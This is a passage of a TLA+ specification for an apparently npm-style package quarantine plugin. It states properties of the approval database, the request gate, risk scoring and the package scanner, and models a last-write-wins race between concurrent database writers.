\* first fetch sets the package to approved, and a later fetch of an approved
\* package is passed through.
C21_ApprovalReachable ==
  /\ (last.op = "PUT /-/quarantine/approve" /\ last.seen \in {"pending", "rejected"})
       => packagesOf(dbFile)[last.pkg][1].status = "approved"
  /\ (gatedFetch(last) /\ last.seen = "approved") => last.result = "next"

\* C22: every package the gate has quarantined is eventually scanned and the
\* results are recorded: scanResults and scannedAt of its record become set.
C22_QuarantinedEventuallyScanned ==
  \A p \in Packages :
    (packagesOf(dbFile)[p] # None)
      ~> (/\ packagesOf(dbFile)[p] # None
          /\ packagesOf(dbFile)[p][1].scanResults # None
          /\ packagesOf(dbFile)[p][1].scannedAt # None)

----------------------------------------------------------------------------
(* The statuses of the approval state machine *)

\* C23: every record of the approval database has the status pending,
\* approved or rejected, never blocked; the gate gets "blocked" from
\* getApprovalStatus (and answers "Package not approved") only for a package
\* that had no record when it was called.
C23_BlockedNeverStored ==
  /\ \A p \in Packages :
       packagesOf(dbFile)[p] # None
         => packagesOf(dbFile)[p][1].status \in {"pending", "approved", "rejected"}
  /\ (gatedFetch(last) /\ last.result = NotApproved) => last.seen = "unseen"

\* a package that got the answer for "blocked" at its first fetch has been
\* rejected since
C23_Witness ==
  /\ last.op = "rejectPackage" /\ last.result = "ok"
  /\ packagesOf(dbFile)[last.pkg][1].status = "rejected"
  /\ Len(attemptsOf(logFile)) = 1
  /\ attemptsOf(logFile)[1].package = last.pkg

\* C24: on an existing record in any status approvePackage sets the status
\* approved and stamps approvedAt, and rejectPackage sets rejected and stamps
\* rejectedAt; approved -> rejected and rejected -> approved both happen.
C24_TransitionsUnconditional ==
  [][ \A p \in Packages :
        (/\ last'.op \in {"approvePackage", "rejectPackage"}
         /\ last'.pkg = p
         /\ packagesOf(dbFile)[p] # None)
        => LET new == packagesOf(dbFile')[p][1] IN
           /\ last'.result = "ok"
           /\ last'.op = "approvePackage"
                => (new.status = "approved" /\ new.approvedAt = Some(now))
           /\ last'.op = "rejectPackage"
                => (new.status = "rejected" /\ new.rejectedAt = Some(now)) ]_vars

\* a rejected package has been approved afterwards
C24_Witness ==
  /\ last.op = "approvePackage" /\ last.result = "ok"
  /\ packagesOf(dbFile)[last.pkg][1].status = "approved"
  /\ packagesOf(dbFile)[last.pkg][1].rejectedAt # None
  /\ packagesOf(dbFile)[last.pkg][1].approvedAt[1] > packagesOf(dbFile)[last.pkg][1].rejectedAt[1]

\* C25: updateScanResults changes scanResults, riskScore and scannedAt of the
\* named record and nothing else: not its status, requestedAt, approvedAt,
\* rejectedAt or requestedBy, no other record, not the schema version,
\* whatever the risk score recorded.
C25_ScanUpdateFrame ==
  [][ \A p \in Packages :
        (last'.op = "updateScanResults" /\ last'.pkg = p /\ last'.result = "ok")
        => LET old == packagesOf(dbFile)[p][1]
               new == packagesOf(dbFile')[p][1]
           IN  /\ new = [old EXCEPT !.scanResults = new.scanResults,
                                    !.riskScore = new.riskScore,
                                    !.scannedAt = new.scannedAt]
               /\ new.riskScore = last'.arg[1].riskScore
               /\ \A q \in Packages \ {p} : packagesOf(dbFile')[q] = packagesOf(dbFile)[q]
               /\ loadDb(dbFile').version = loadDb(dbFile).version ]_vars

\* an approved package has been given a score above 100 and is still approved
C25_Witness ==
  /\ last.op = "updateScanResults" /\ last.result = "ok"
  /\ packagesOf(dbFile)[last.pkg][1].status = "approved"
  /\ packagesOf(dbFile)[last.pkg][1].riskScore = 250

----------------------------------------------------------------------------
(* Further properties of the scanner *)

\* the list rs in the order perm
permuted(rs, perm) == [i \in 1..Len(rs) |-> rs[perm[i]]]

\* C26: the aggregate score of a list of signals is min(100, sum of the
\* weights of their severities), with low = 10, medium = 30, high = 60 and
\* critical = 100, and it is the same for every permutation of the list.
C26_AggregateIsCappedSum ==
  last.op = "calculateRiskScore" =>
    LET rs == last.arg[1]
        count(sv) == Cardinality({ i \in 1..Len(rs) : rs[i].severity = sv })
        sum == 10 * count("low") + 30 * count("medium") + 60 * count("high")
                 + 100 * count("critical")
    IN  /\ last.value[1] = (IF sum < 100 THEN sum ELSE 100)
        /\ \A perm \in Permutations(1..Len(rs)) :
             calculateRiskScore(permuted(rs, perm)) = last.value[1]

\* a list of signals of different severities has been given a score below
\* the cap
C26_Witness ==
  /\ last.op = "calculateRiskScore"
  /\ Len(last.arg[1]) = 3
  /\ last.arg[1][1].severity = "medium" /\ last.arg[1][2].severity = "low"
  /\ last.arg[1][3].severity = "medium"
  /\ last.value[1] = 70

\* the regular files of a tree, in every directory at every depth
RECURSIVE filesUnder(_)
filesUnder(entries) ==
  IF entries = <<>> THEN {}
  ELSE LET e == Head(entries) IN
       (IF e.kind = "file" THEN {e}
        ELSE IF e.kind = "dir" THEN filesUnder(e.entries) ELSE {})
       \cup filesUnder(Tail(entries))

\* a scan whose extraction succeeded, so that the detectors ran
detectorsRan == scanned /\ last.arg[1].fault \in {"none", "rm"}

hasRisk(type, severity, val) ==
  \E i \in 1..Len(last.value[1].risks) :
    /\ last.value[1].risks[i].type = type
    /\ last.value[1].risks[i].severity = severity
    /\ last.value[1].risks[i].details.val = val

\* C27: for a manifest that parses, the scan reports a suspicious-script
\* signal of severity high for each of preinstall, postinstall, preuninstall
\* and postuninstall that is present and non-empty in scripts, and for no
\* other script name.
C27_LifecycleHooksFlagged ==
  (detectorsRan /\ last.arg[1].manifest.state = "parsed")
  => LET scripts == last.arg[1].manifest.scripts
         hooks == {"preinstall", "postinstall", "preuninstall", "postuninstall"}
         set(h) == scripts # None /\ h \in DOMAIN scripts[1] /\ scripts[1][h] # ""
     IN  /\ \A h \in hooks : set(h) <=> hasRisk("suspicious-script", "high", h)
         /\ \A i \in 1..Len(last.value[1].risks) :
              last.value[1].risks[i].type = "suspicious-script"
                => last.value[1].risks[i].details.val \in hooks

\* C28: a scan that ends without an error has visited every regular file of
\* the extracted tree, in every directory at every depth: each file above
\* 10 MiB has a large-files signal (low), each file with an executable
\* extension or an execute bit a binary-executable signal (medium).
C28_BinaryScanVisitsEveryFile ==
  (scanned /\ last.caught = None)
  => \A f \in filesUnder(rootOf(last.arg[1]).entries) :
       /\ f.size > TenMiB => hasRisk("large-files", "low", f.name)
       /\ (isExecutable(f) \/ execBit(f.mode))
            => hasRisk("binary-executable", "medium", f.name)

\* C29: an I/O error on one file or directory inside a detector (a file that
\* cannot be read, a stat or a directory listing that fails) does not end the
\* scan: when extraction and cleanup succeed, the scan ends without a
\* scan-error.
C29_DetectorErrorsSkipEntry ==
  (scanned /\ last.arg[1].fault = "none")
  => /\ last.caught = None
     /\ \A i \in 1..Len(last.value[1].risks) : last.value[1].risks[i].type # "scan-error"

\* C30: the extraction path of the scanned package (archives lying in one
\* directory) differs from the extraction path of every other package name.
C30_ScratchPathsDistinct ==
  scanned =>
    \A other \in ScanNames :
      other # last.pkg => extractPathOf(other) # extractPathOf(last.pkg)

----------------------------------------------------------------------------
(* Concurrent writers of the approval database: approvePackage next to the  *)
(* registration of another package, each request handled by a caller that   *)
(* serves the next request when its call has returned.                      *)

\* approvePackage from its loadDb to its throw or its call of saveDb
ApprovePackageLoad(c, name) ==
  /\ inflight[c].pc = "idle"
  /\ LET r == approvePackage(dbFile, name, now) IN
       IF r.result = "ok"
         THEN /\ inflight' = [inflight EXCEPT ![c] =
                   Position("writing", "approvePackage", name, r.file, "")]
              /\ now' = now + 1
         ELSE /\ inflight' = [inflight EXCEPT ![c] =
                   Position("done", "approvePackage", name, None, r.result)]
              /\ now' = now
  /\ last' = Called("approvePackage", name, "ok")
  /\ UNCHANGED <<dbFile, logFile, appended, scratch, job, quarantineDir>>

\* the call has returned: the caller handles its next request
Return(c) ==
  /\ inflight[c].pc = "done"
  /\ inflight' = [inflight EXCEPT ![c] = Idle]
  /\ last' = Called("return", inflight[c].pkg, inflight[c].result)
  /\ UNCHANGED <<dbFile, logFile, now, appended, scratch, job, quarantineDir>>

NextWriters ==
  \/ (\E c \in Callers, name \in Packages : GetApprovalStatusLoad(c, name)) /\ InTime
  \/ (\E c \in Callers : RegisterLoad(c)) /\ InTime
  \/ (\E c \in Callers, name \in Packages : ApprovePackageLoad(c, name)) /\ InTime
  \/ (\E c \in Callers : SaveDb(c)) /\ InTime
  \/ (\E c \in Callers : Return(c)) /\ InTime

SpecWriters == InitRace /\ [][NextWriters]_vars

\* C31: the approval database is written as a whole document, last write
\* wins: when a caller's write lands the file becomes the document that
\* caller loaded with its own change, whatever was written in between; so
\* there is an interleaving of approvePackage(A) with the registration of B
\* after which A's approval is absent from the file (the witness).
C31_LastWriteWins ==
  [][ \A c \in Callers :
        (inflight[c].pc = "writing" /\ inflight'[c].pc = "done")
        => \A q \in Packages :
             packagesOf(dbFile')[q] = packagesOf(inflight[c].content)[q]
    ]_vars

\* both calls have returned without an error, approvePackage(A) and the
\* first-seen registration of B, and the file holds B but A is not approved
C31_Witness ==
  \E c, d \in Callers :
    /\ inflight[c] = Position("done", "approvePackage", PkgA, None, "ok")
    /\ inflight[d] = Position("done", "getApprovalStatus", PkgB, None, "blocked")
    /\ packagesOf(dbFile)[PkgB] # None
    /\ packagesOf(dbFile)[PkgA] # None
    /\ packagesOf(dbFile)[PkgA][1].status = "pending"
    /\ packagesOf(dbFile)[PkgA][1].approvedAt = None

----------------------------------------------------------------------------
(* Further properties of the gate, requests one after the other *)

\* the three tests the handler makes before its lookup
skipsLookup(req) == req.method # "GET" \/ req.admin \/ req.raw = <<>>

\* C32: a request passes the gate without a lookup (next() called, approval
\* database and blocked-attempt log neither read nor written) if and only
\* if it is not a GET, or its URL contains "/-/", or it has no package
\* parameter; every other request performs the getApprovalStatus lookup.
C32_OnlyNonArtifactBypass ==
  [][ last'.op = "fetch"
      => LET req == last'.req[1] IN
         /\ skipsLookup(req)
              => /\ last'.result = "next" /\ last'.seen = "none"
                 /\ dbFile' = dbFile /\ logFile' = logFile /\ now' = now
         /\ ~skipsLookup(req) => last'.seen # "none"
    ]_vars

\* C33: every request handed to the package interceptor ends in exactly one
\* outcome, next() called or a 403 response sent, also when its package
\* parameter is not valid percent-encoding.
C33_ExactlyOneOutcome ==
  last.op = "fetch" => last.result \in {"next", NotApproved, UnderReview}

----------------------------------------------------------------------------
(* Further properties of the records, calls one after the other *)

\* C34: in every state of the approval database an approved record has
\* approvedAt and a rejected record has rejectedAt; approvedAt (rejectedAt)
\* appears on a record only by a successful approvePackage (rejectPackage)
\* of that package, so a record never approved (rejected) has none.
C34_StampsMatchStatus ==
  [][ \A p \in Packages :
        LET old == packagesOf(dbFile)[p]
            new == packagesOf(dbFile')[p]
        IN  new # None =>
              /\ new[1].status = "approved" => new[1].approvedAt # None
              /\ new[1].status = "rejected" => new[1].rejectedAt # None
              /\ ((old = None \/ old[1].approvedAt = None) /\ new[1].approvedAt # None)
                   => (last'.op = "approvePackage" /\ last'.pkg = p /\ last'.result = "ok")
              /\ ((old = None \/ old[1].rejectedAt = None) /\ new[1].rejectedAt # None)
                   => (last'.op = "rejectPackage" /\ last'.pkg = p /\ last'.result = "ok")
    ]_vars

\* a package never approved has been rejected: rejectedAt set, no approvedAt
C34_Witness ==
  /\ last.op = "rejectPackage" /\ last.result = "ok"
  /\ packagesOf(dbFile)[last.pkg][1].status = "rejected"
  /\ packagesOf(dbFile)[last.pkg][1].rejectedAt # None
  /\ packagesOf(dbFile)[last.pkg][1].approvedAt = None

----------------------------------------------------------------------------
(* Construction of the plugin: the quarantine directory, present or absent  *)
(* when the plugin is constructed, and the first requests served afterwards *)

\* this.exists(f): an async method, so the call evaluates to a promise that
\* resolves to whether fs.stat(f) succeeded
exists(present) == [promise |-> TRUE, resolves |-> present]

\* the truth value JavaScript gives a value in a condition: an object, here a
\* promise, is truthy whatever it resolves to
truthy(v) == v.promise \/ v.resolves

\* initQuarantine: whether the directory exists afterwards and what is logged
initQuarantine(present) ==
  IF ~truthy(exists(present))
    THEN [dir |-> TRUE, logged |-> "Quarantine directory intialised"]
    ELSE [dir |-> present, logged |-> "Quarantine directory exists"]

\* new QuarantinePlugin(config, options)
Construct ==
  /\ last.op = "start"
  /\ quarantineDir' = initQuarantine(quarantineDir).dir
  /\ last' = Called("constructor", <<>>, initQuarantine(quarantineDir).logged)
  /\ UNCHANGED <<dbFile, logFile, now, appended, scratch, job, inflight>>

\* what the file system answers to the calls in asked: a read of a missing
\* file is the empty document already, a write into a missing directory
\* fails with ENOENT
onDisk(io, asked, present) ==
  /\ answers(io, asked)
  /\ \A f \in asked :
       io[f] = IF f \in {"dbWrite", "logWrite"} /\ ~present THEN "ENOENT" ELSE "ok"

FetchOnDisk(req) ==
  /\ last.op # "start"
  /\ \E io \in IoFaults :
       /\ onDisk(io, packageInterceptorIO(req, dbFile, logFile, now, io).asked, quarantineDir)
       /\ FetchIO(req, io)

RecordPackageRequestOnDisk(name) ==
  /\ last.op # "start"
  /\ \E io \in StoreFaults :
       /\ onDisk(io, {"dbRead"} \cup
                       (IF loadDb(dbFile).packages[name] = None THEN {"dbWrite"} ELSE {}),
                 quarantineDir)
       /\ RecordPackageRequestIO(name, None, io)

InitPlugin ==
  /\ quarantineDir \in BOOLEAN
  /\ dbFile = None
  /\ logFile = None
  /\ now = 0
  /\ last = Called("start", <<>>, "ok")
  /\ appended = <<>>
  /\ scratch = {}
  /\ job = None
  /\ inflight = NoCalls

NextStartup ==
  \/ Construct /\ InTime
  \/ (\E req \in Requests : FetchOnDisk(req)) /\ InTime
  \/ (\E name \in Packages : RecordPackageRequestOnDisk(name)) /\ InTime

SpecStartup == InitPlugin /\ [][NextStartup]_vars

\* C35: once the plugin is constructed the quarantine directory exists,
\* also when it was absent before, and the first write of the approval
\* database succeeds.
C35_InitCreatesDirectory ==
  /\ last.op # "start" => quarantineDir
  /\ last.op \in {"fetch", "recordPackageRequest"} => last.caught # Some("ENOENT")

----------------------------------------------------------------------------
(* Further properties of the blocked-attempt log, requests one after the other *)

\* C36: with requests handled one after the other and the store readable
\* and writable, at most one BlockedAttempt is ever logged per package: the
\* log changes only at the fetch of a package that has no record, and a
\* fetch of a package that has one, denied or allowed, leaves it unchanged.
C36_OneAttemptPerPackage ==
  [][ /\ \A p \in Packages :
           Cardinality({ i \in 1..Len(appended') : appended'[i].package = p }) <= 1
      /\ (gatedFetch(last') /\ last'.seen # "unseen")
           => (logFile' = logFile /\ appended' = appended)
      /\ logFile' # logFile => (gatedFetch(last') /\ last'.seen = "unseen")
    ]_vars

\* a package logged at its first fetch has been approved and fetched again:
\* the log still holds the one attempt
C36_Witness ==
  /\ gatedFetch(last) /\ last.seen = "approved" /\ last.result = "next"
  /\ Len(attemptsOf(logFile)) = 1
  /\ attemptsOf(logFile)[1].package = last.pkg
  /\ appended = attemptsOf(logFile)

====
